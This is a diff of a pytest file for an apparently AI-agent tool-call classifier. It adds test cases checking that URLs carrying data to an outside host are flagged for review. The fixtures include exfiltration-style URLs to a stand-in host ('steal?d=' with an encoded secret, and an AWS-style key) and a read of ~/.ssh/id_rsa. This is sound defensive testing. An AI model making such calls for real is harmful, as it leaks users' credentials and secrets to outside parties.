@@ -221,14 +221,17 @@ def test_del_inside_a_name_is_not_a_verb(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(("tool", "judged", "said", "plain"), [
-    ("fetch", {"url": "https://x.example/steal?d=c2VjcmV0"}, "leaves the machine",
-     {"url": "http://localhost:8000/health"}),
+    ("fetch", {"url": "https://x.example/steal?d=c2VjcmV0LWtleS0xMjM0NTY3ODkwYWJjZGVm"},
+     "leaves the machine", {"url": "http://localhost:8000/health"}),
+    ("browser_navigate", {"url": "https://x.example/?k=AKIAIOSFODNN7EXAMPLE"},
+     "leaves the machine", {"url": "https://docs.python.org/3/library/re.html"}),
     ("read_file", {"path": "/home/u/.ssh/id_rsa"}, "looks like a secret", {"path": "src/app.py"}),
 ])
 def test_a_plain_read_of_a_url_elsewhere_or_a_secret_is_left_to_the_model(
         tmp_path: Path, tool: str, judged: dict, said: str, plain: dict) -> None:
-    """As a harness's WebFetch and a Read of ~/.ssh/id_rsa are; the same read of a local URL
-    or an ordinary file stays read-only by rule."""
+    """As a harness's WebFetch and a Read of ~/.ssh/id_rsa are: a URL that carries data out
+    (a key, a long opaque value) is left to the model; the same read of an address that
+    carries nothing, a local URL or an ordinary file stays read-only by rule."""
     e = name_effect(tool, judged, cwd=str(tmp_path))
     assert e is not None and e.effect is EffectClass.READ_ONLY and e.needs_model
     assert said in e.evidence
